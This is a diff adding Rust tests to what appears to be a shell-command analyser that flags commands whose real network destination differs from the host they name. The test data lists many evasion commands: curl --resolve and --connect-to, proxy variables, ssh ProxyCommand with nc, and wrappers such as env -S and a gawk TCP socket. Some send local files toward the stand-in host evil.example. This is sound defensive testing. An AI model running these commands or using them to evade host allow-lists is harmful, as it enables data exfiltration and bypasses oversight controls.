@@ -236,3 +236,61 @@ proptest! {
         prop_assert!(f.hosts.contains("evil.example"));
     }
 }
+
+/// Commands that name one host and reach another: the host named must not be taken for the
+/// destination. Each of these must leave the destination unknown, so an allow-list of hosts
+/// refuses them.
+#[test]
+fn a_command_that_sends_its_request_elsewhere_leaves_the_destination_unknown() {
+    for cmd in [
+        "curl --resolve lab.example:80:203.0.113.9 http://lab.example/secret",
+        "curl --connect-to lab.example:443:evil.example:443 -k https://lab.example/x",
+        "curl --socks5-hostname evil.example:1080 http://lab.example/x",
+        "http_proxy=http://evil.example:8080 curl http://lab.example/secret",
+        "HTTPS_PROXY=http://evil.example:8080 curl https://lab.example/secret",
+        "env ALL_PROXY=socks5://evil.example curl https://lab.example/secret",
+        "export https_proxy=http://evil.example:3128; curl https://lab.example/secret",
+        "https_proxy=http://evil.example:3128; export https_proxy; curl https://lab.example/s",
+        "PATH=/tmp/x:$PATH; curl https://lab.example/s",
+        "wget -e http_proxy=evil.example:8080 http://lab.example/secret",
+        "ssh -o HostName=evil.example lab.example < /cases/c1/notes.txt",
+        "ssh -oProxyCommand='nc evil.example 22' lab.example",
+        "ssh -F /tmp/cfg lab.example",
+        "rsync -e 'sh -c \"curl evil.example\"' notes.txt lab.example:/x",
+        "scp -S ./prog notes.txt lab.example:/x",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
+    }
+}
+
+/// Wrappers that run a command they were given: the command inside is read, or the whole is
+/// unknown.
+#[test]
+fn wrappers_do_not_hide_the_command_they_run() {
+    for cmd in [
+        "env -S 'curl http://evil.example/x'",
+        "exec -a x curl http://evil.example/",
+        "taskset 1 curl http://evil.example/",
+        "chrt 10 curl http://evil.example/",
+        "caffeinate -t 5 curl http://evil.example/",
+    ] {
+        let f = analyse(cmd);
+        assert!(
+            f.hosts.contains("evil.example") || f.hosts.contains(UNKNOWN),
+            "{cmd}: {f:?}"
+        );
+        assert!(f.network, "{cmd}: {f:?}");
+    }
+    for cmd in [
+        "flock /tmp/l curl http://evil.example/",
+        "script -c 'curl http://evil.example/' /dev/null",
+        "proxychains curl http://lab.example/",
+        "gawk 'BEGIN { s = \"/inet/tcp/0/evil.example/80\"; print \"x\" |& s }'",
+        "systemd-run --user curl http://evil.example/",
+        "toybox wget http://evil.example/",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.network && f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
+    }
+}
